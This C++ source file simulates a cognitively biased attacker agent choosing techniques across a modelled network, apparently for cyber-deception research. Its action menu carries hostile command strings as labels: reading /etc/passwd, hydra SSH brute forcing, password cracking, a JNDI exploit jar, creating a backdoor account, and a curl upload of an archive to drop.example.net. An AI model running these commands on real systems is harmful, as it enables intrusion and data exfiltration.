#include "cogsim/attacker_agent.hpp"

#include <algorithm>
#include <cmath>
#include <tuple>

#include "cogsim/error.hpp"
#include "cogsim/salience.hpp"

namespace cogsim {

namespace technique {

std::vector<std::string> all() {
  return {kNetworkScan,   kAccountDiscovery,  kFileDiscovery,     kPermissionCheck,
          kRemoteServices, kBruteForce,       kValidAccounts,     kFoundCredentials,
          kExploitPublicApp, kPasswordCracking, kLocalData,       kCreateAccount,
          kExfiltration};
}

bool is_lateral(const std::string& technique_id) {
  return technique_id == kRemoteServices || technique_id == kBruteForce;
}

}  // namespace technique

// ---------------------------------------------------------------------------
// Profiles

BiasProfile zero_bias_profile() { return BiasProfile{}; }

BiasProfile archetype_profile(BiasKind dominant, double high, double low) {
  BiasProfile p;
  for (BiasKind b : kAllBiases) p.susceptibility[b] = b == dominant ? high : low;
  p.lambda_sunk = dominant == BiasKind::SunkCost ? 0.5 : 0.0;
  p.recency_weight = 1.0;
  p.prior_stickiness = 1.0;
  p.salience_gain = 1.0;
  p.loss_gain = 1.0;
  return p;
}

void check_profile(const BiasProfile& p) {
  auto in01 = [](double v) { return v >= 0.0 && v <= 1.0; };
  for (BiasKind b : kAllBiases) {
    if (!in01(p.susceptibility[b])) {
      throw Error(ErrorCode::ConfigError,
                  "susceptibility." + std::string(to_string(b)) + " outside [0,1]");
    }
  }
  if (!(p.lambda_sunk >= 0.0)) throw Error(ErrorCode::ConfigError, "lambda_sunk negative");
  if (!in01(p.recency_weight)) throw Error(ErrorCode::ConfigError, "recency_weight outside [0,1]");
  if (!in01(p.prior_stickiness)) {
    throw Error(ErrorCode::ConfigError, "prior_stickiness outside [0,1]");
  }
  if (!(p.salience_gain >= 0.0)) throw Error(ErrorCode::ConfigError, "salience_gain negative");
  if (!(p.loss_gain >= 0.0)) throw Error(ErrorCode::ConfigError, "loss_gain negative");
}

std::optional<BiasKind> dominant_bias(const BiasProfile& p) {
  std::optional<BiasKind> best;
  bool unique = false;
  for (BiasKind b : kAllBiases) {
    if (!best || p.susceptibility[b] > p.susceptibility[*best]) {
      best = b;
      unique = true;
    } else if (p.susceptibility[b] == p.susceptibility[*best]) {
      unique = false;
    }
  }
  return unique ? best : std::nullopt;
}

// ---------------------------------------------------------------------------
// State

AttackerState initial_state(const Scenario& scenario, double budget) {
  AttackerState s;
  s.foothold = scenario.entry_host;
  s.discovered.insert(scenario.entry_host);
  s.budget = budget;
  return s;
}

std::string action_key(const ActionSpec& a) {
  return a.technique_id + "|" + a.target_host + "|" + a.uses_artifact.value_or("");
}

AgentConfig default_agent_config() {
  using namespace technique;
  AgentConfig c;
  c.techniques = {
      {kNetworkScan, {0.35, 0.95, 1.5, 8.0}},
      {kAccountDiscovery, {0.05, 1.0, 0.3, 3.0}},
      {kFileDiscovery, {0.05, 1.0, 0.3, 4.0}},
      {kPermissionCheck, {0.02, 1.0, 0.4, 2.0}},
      {kRemoteServices, {0.2, 1.0, 1.0, 6.0}},
      {kBruteForce, {0.7, 0.8, 0.9, 25.0}},
      {kValidAccounts, {0.5, 0.8, 1.0, 4.0}},
      {kFoundCredentials, {0.6, 0.25, 1.5, 5.0}},
      {kExploitPublicApp, {0.25, 0.7, 1.5, 45.0}},
      {kPasswordCracking, {0.1, 0.5, 1.0, 20.0}},
      {kLocalData, {0.3, 1.0, 0.4, 3.0}},
      {kCreateAccount, {0.5, 0.9, 0.3, 3.0}},
      {kExfiltration, {0.4, 0.8, 2.0, 15.0}},
  };
  c.salience_keywords = default_salience_keywords();
  return c;
}

namespace {

const TechniqueParams& params(const AgentConfig& cfg, const std::string& id) {
  auto it = cfg.techniques.find(id);
  if (it == cfg.techniques.end()) {
    throw Error(ErrorCode::ConfigError, "agent config lacks technique " + id);
  }
  return it->second;
}

Tally attempts_of(const AttackerState& s, const ActionSpec& a) {
  auto it = s.attempts.find(action_key(a));
  return it == s.attempts.end() ? Tally{} : it->second;
}

bool has_tag(const Artifact& a, std::string_view prefix, std::string* rest = nullptr) {
  for (const auto& t : a.salience_tags) {
    if (t.rfind(prefix, 0) == 0) {
      if (rest) *rest = t.substr(prefix.size());
      return true;
    }
  }
  return false;
}

std::string first_word(const std::string& cmd) { return cmd.substr(0, cmd.find(' ')); }

std::string subnet_cidr(const std::string& ip) {
  const auto dot = ip.rfind('.');
  return (dot == std::string::npos ? ip : ip.substr(0, dot)) + ".0/24";
}

std::vector<std::string> aliased_commands(const std::vector<Artifact>& artifacts) {
  std::vector<std::string> out;
  for (const auto& a : artifacts) {
    std::string cmd;
    if (a.kind == ArtifactKind::Alias && has_tag(a, "aliased:", &cmd)) out.push_back(cmd);
  }
  return out;
}

ActionSpec a_key_probe(const std::string& tech, const HostId& target,
                       const std::optional<std::string>& artifact) {
  ActionSpec a;
  a.technique_id = tech;
  a.target_host = target;
  a.uses_artifact = artifact;
  return a;
}

class MenuBuilder {
 public:
  MenuBuilder(const AttackerState& s, const Scenario& sc, const AgentConfig& cfg,
              std::vector<std::string> aliased)
      : s_(s), sc_(sc), cfg_(cfg), aliased_(std::move(aliased)) {}

  // reward_once: payoff collected after the first success; such actions then
  // leave the menu unless keep_exhausted is set.
  void add(const std::string& tech, const HostId& target, std::string command,
           std::optional<std::string> artifact, double reward, double p_success,
           bool reward_once, bool keep_exhausted = false) {
    const TechniqueParams& p = params(cfg_, tech);
    ActionSpec a;
    a.technique_id = tech;
    a.target_host = target;
    const Tally t = attempts_of(s_, a_key_probe(tech, target, artifact));
    // Repeated failures on the same action are noisy.
    a.p_detect = std::min(1.0, p.p_detect + cfg_.failure_detect_step * (t.tries - t.successes));
    a.p_success = p_success;
    a.time_cost = p.time_cost;
    a.uses_artifact = std::move(artifact);
    a.command = std::move(command);
    if (reward_once && t.successes > 0) {
      if (!keep_exhausted) return;
      a.reward = cfg_.exhausted_reward;
    } else {
      a.reward = reward * std::pow(cfg_.failure_reward_decay, t.tries - t.successes);
    }
    if (std::find(aliased_.begin(), aliased_.end(), first_word(a.command)) != aliased_.end()) {
      a.p_success = 0.0;
    }
    if (a.time_cost <= s_.budget - s_.clock) out.push_back(std::move(a));
  }

  std::vector<ActionSpec> out;

 private:
  const AttackerState& s_;
  const Scenario& sc_;
  const AgentConfig& cfg_;
  std::vector<std::string> aliased_;
};

}  // namespace

std::vector<ActionSpec> enumerate_actions(const AttackerState& state, const Scenario& scenario,
                                          const AgentConfig& cfg) {
  using namespace technique;
  const HostNode* here = scenario.find_host(state.foothold);
  if (!here) {
    throw Error(ErrorCode::StateInconsistent, "foothold " + state.foothold + " not in scenario");
  }
  if (state.clock >= state.budget) return {};

  const std::vector<Artifact> artifacts = scenario.visible_artifacts(here->host_id);
  MenuBuilder m(state, scenario, cfg, aliased_commands(artifacts));
  const HostId& f = here->host_id;

  m.add(kNetworkScan, f, "nmap -sV -T4 " + subnet_cidr(here->ip), std::nullopt,
        params(cfg, kNetworkScan).reward, params(cfg, kNetworkScan).p_success, true);
  m.add(kAccountDiscovery, f, "cat /etc/passwd", std::nullopt,
        params(cfg, kAccountDiscovery).reward, 1.0, true);
  m.add(kFileDiscovery, f, "find /home /srv -name '*.*'", std::nullopt,
        params(cfg, kFileDiscovery).reward, 1.0, true);

  bool scanned = false;
  {
    ActionSpec probe;
    probe.technique_id = kNetworkScan;
    probe.target_host = f;
    scanned = attempts_of(state, probe).successes > 0;
  }

  for (const HostId& nb : scenario.neighbors(f)) {
    const HostNode* h = scenario.find_host(nb);
    if (!h) continue;
    const bool visited = state.discovered.count(nb) > 0;
    double entry = scenario.on_attack_path(nb) ? cfg.on_path_entry_success
                                               : cfg.off_path_entry_success;
    if (!scanned) entry *= cfg.unscanned_success_factor;
    if (visited) {
      bool frontier = false;
      for (const HostId& next : scenario.neighbors(nb)) frontier |= state.discovered.count(next) == 0;
      m.add(kRemoteServices, nb, "ssh svc@" + h->display_name, std::nullopt,
            frontier ? cfg.frontier_revisit_reward : cfg.revisit_reward, cfg.revisit_success, false);
      continue;
    }
    // A completed scan exposes which neighbors run nothing exploitable.
    const double value = scanned && !scenario.on_attack_path(nb)
                             ? h->value * cfg.scanned_dead_end_value
                             : h->value;
    m.add(kRemoteServices, nb, "ssh svc@" + h->display_name, std::nullopt,
          value * params(cfg, kRemoteServices).reward, entry, false);
    m.add(kBruteForce, nb, "hydra -l root -P rockyou.txt ssh://" + h->ip, std::nullopt,
          value * params(cfg, kBruteForce).reward, entry * params(cfg, kBruteForce).p_success,
          false);
  }

  bool verified = false;
  bool any_account = false;
  for (const auto& a : artifacts) any_account |= a.kind == ArtifactKind::Account;
  if (any_account) {
    m.add(kPermissionCheck, f, "sudo -l", std::nullopt, params(cfg, kPermissionCheck).reward, 1.0,
          true);
    ActionSpec probe;
    probe.technique_id = kPermissionCheck;
    probe.target_host = f;
    verified = attempts_of(state, probe).successes > 0;
  }

  for (const auto& a : artifacts) {
    switch (a.kind) {
      case ArtifactKind::Account: {
        const TechniqueParams& p = params(cfg, kValidAccounts);
        double reward = p.reward;
        if (verified && !a.grants_privilege) reward *= cfg.verified_decoy_factor;
        m.add(kValidAccounts, f, "su -l " + a.name, a.name, reward,
              a.grants_privilege ? p.p_success : 0.0, true);
        break;
      }
      case ArtifactKind::File: {
        if (has_tag(a, "password-protected")) {
          const TechniqueParams& p = params(cfg, kPasswordCracking);
          m.add(kPasswordCracking, f, "john --wordlist=rockyou.txt " + a.name, a.name, p.reward,
                a.grants_privilege ? p.p_success : 0.0, true);
        } else {
          const TechniqueParams& p = params(cfg, kLocalData);
          m.add(kLocalData, f, "cp /srv/share/" + a.name + " /tmp/.cache", a.name, p.reward,
                p.p_success, true);
        }
        break;
      }
      case ArtifactKind::ProxyNote: {
        std::string account;
        std::string service;
        if (has_tag(a, "credential:", &account)) {
          const TechniqueParams& p = params(cfg, kFoundCredentials);
          m.add(kFoundCredentials, f, "su - " + account, account, p.reward,
                a.grants_privilege ? p.p_success : 0.0, true);
        }
        if (has_tag(a, "exploit:", &service)) {
          const TechniqueParams& p = params(cfg, kExploitPublicApp);
          m.add(kExploitPublicApp, f, "java -jar jndi-exploit.jar --target " + service, service,
                p.reward, p.p_success, true);
        }
        break;
      }
      case ArtifactKind::Alias:
      case ArtifactKind::Service:
        break;
    }
  }

  if (f != scenario.entry_host) {
    const TechniqueParams& p = params(cfg, kCreateAccount);
    m.add(kCreateAccount, f, "useradd -m sysupd", std::nullopt, p.reward, p.p_success, true);
  }
  if (here->path_rank && *here->path_rank >= cfg.exfil_min_rank) {
    const TechniqueParams& p = params(cfg, kExfiltration);
    m.add(kExfiltration, f, "curl -T /data/archive.tgz https://drop.example.net/u", std::nullopt,
          p.reward, p.p_success, true);
  }
  return std::move(m.out);
}

// ---------------------------------------------------------------------------
// Utility

double estimated_success(const std::string& technique_id, const AttackerState& state,
                         const BiasProfile& profile) {
  // One pseudo-observation at the 0.5 prior keeps a single failure from
  // pinning the estimate at zero for the rest of the session.
  double base = 0.5;
  if (auto it = state.tally.find(technique_id); it != state.tally.end() && it->second.tries > 0) {
    base = (it->second.successes + 0.5) / (it->second.tries + 1.0);
  }
  const double r = profile.recency_weight * profile.susceptibility[BiasKind::BaseRateNeglect];
  double last = base;
  if (auto it = state.last_outcome.find(technique_id); it != state.last_outcome.end()) {
    last = it->second ? 1.0 : 0.0;
  }
  return (1.0 - r) * base + r * last;
}

double biased_utility(const ActionSpec& a, const AttackerState& state, const BiasProfile& profile,
                      const AgentConfig& cfg) {
  const auto& sus = profile.susceptibility;
  double u = estimated_success(a.technique_id, state, profile) * a.reward -
             (1.0 + profile.loss_gain * sus[BiasKind::LossAversion]) * a.p_detect -
             a.time_cost / state.budget;
  const double avail = profile.salience_gain * sus[BiasKind::Availability];
  if (avail != 0.0) {
    std::string name = a.target_host;
    if (a.uses_artifact) {
      name = *a.uses_artifact;
    }
    u += avail * lexical_salience(name, cfg.salience_keywords);
  }
  if (state.preferred_technique && *state.preferred_technique == a.technique_id) {
    u += profile.prior_stickiness * sus[BiasKind::Confirmation];
  }
  return u;
}

bool continue_target(const AttackerState& state, const HostId& host, const BiasProfile& profile,
                     double expected_reward) {
  double sunk = 0.0;
  if (auto it = state.sunk_cost.find(host); it != state.sunk_cost.end()) sunk = it->second;
  return expected_reward >= -profile.lambda_sunk * sunk;
}

// ---------------------------------------------------------------------------
// Step

void record_outcome(AttackerState& state, const ActionSpec& action, bool succeeded) {
  state.history.push_back({state.clock, action, succeeded});
  Tally& t = state.tally[action.technique_id];
  ++t.tries;
  if (succeeded) ++t.successes;
  Tally& at = state.attempts[action_key(action)];
  ++at.tries;
  if (succeeded) ++at.successes;
  state.last_outcome[action.technique_id] = succeeded;
  state.sunk_cost[action.target_host] += action.time_cost + action.p_detect;
  state.clock = std::min(state.budget, state.clock + action.time_cost);
  if (succeeded && technique::is_lateral(action.technique_id) &&
      action.target_host != state.foothold) {
    state.trail.push_back(state.foothold);
    state.foothold = action.target_host;
    state.discovered.insert(action.target_host);
  }
  if (!state.preferred_technique && succeeded && t.successes >= 2) {
    state.preferred_technique = action.technique_id;
  }
}

void settle_outcome(AttackerState& state, const Scenario& scenario, const ActionSpec& action,
                    bool succeeded) {
  const HostId before = state.foothold;
  record_outcome(state, action, succeeded);
  // An aliased command drops the session back to the previous foothold.
  const auto aliased = aliased_commands(scenario.visible_artifacts(before));
  if (!succeeded && !state.trail.empty() &&
      std::find(aliased.begin(), aliased.end(), first_word(action.command)) != aliased.end()) {
    state.foothold = state.trail.back();
    state.trail.pop_back();
  }
}

bool mission_complete(const AttackerState& state, const Scenario& scenario) {
  int deepest = 0;
  for (const auto& h : scenario.hosts) deepest = std::max(deepest, h.path_rank.value_or(0));
  for (const auto& rec : state.history) {
    if (!rec.succeeded || rec.action.technique_id != technique::kExfiltration) continue;
    const HostNode* h = scenario.find_host(rec.action.target_host);
    if (h && h->path_rank && *h->path_rank == deepest) return true;
  }
  return false;
}

StepResult step(const AttackerState& state, const Scenario& scenario, const BiasProfile& profile,
                RngStream& rng, const AgentConfig& cfg) {
  if (mission_complete(state, scenario)) throw Error(ErrorCode::SessionComplete, "mission complete");
  std::vector<ActionSpec> menu = enumerate_actions(state, scenario, cfg);
  if (menu.empty()) throw Error(ErrorCode::SessionComplete, "no affordable action");

  std::size_t best = 0;
  double best_u = 0.0;
  std::vector<double> utilities(menu.size());
  for (std::size_t i = 0; i < menu.size(); ++i) {
    utilities[i] = biased_utility(menu[i], state, profile, cfg);
    auto rank = [&](std::size_t k) {
      return std::tie(menu[k].technique_id, menu[k].target_host, menu[k].command);
    };
    if (i == 0 || utilities[i] > best_u || (utilities[i] == best_u && rank(i) < rank(best))) {
      best = i;
      best_u = utilities[i];
    }
  }

  // Walking away is an implicit option worth quit_utility.
  const double outside = std::max(best_u, cfg.quit_utility);
  std::optional<std::size_t> chosen;
  if (best_u >= cfg.quit_utility) chosen = best;
  if (profile.lambda_sunk > 0.0 && !state.history.empty() && !state.history.back().succeeded) {
    const std::string pursued = action_key(state.history.back().action);
    for (std::size_t i = 0; i < menu.size(); ++i) {
      if (action_key(menu[i]) != pursued) continue;
      if (continue_target(state, menu[i].target_host, profile, utilities[i] - outside)) chosen = i;
      break;
    }
  }
  if (!chosen) throw Error(ErrorCode::SessionComplete, "no action worth taking");

  StepResult r;
  r.chosen = menu[*chosen];
  r.succeeded = rng.bernoulli(r.chosen.p_success);
  r.state = state;
  settle_outcome(r.state, scenario, r.chosen, r.succeeded);
  return r;
}

}  // namespace cogsim
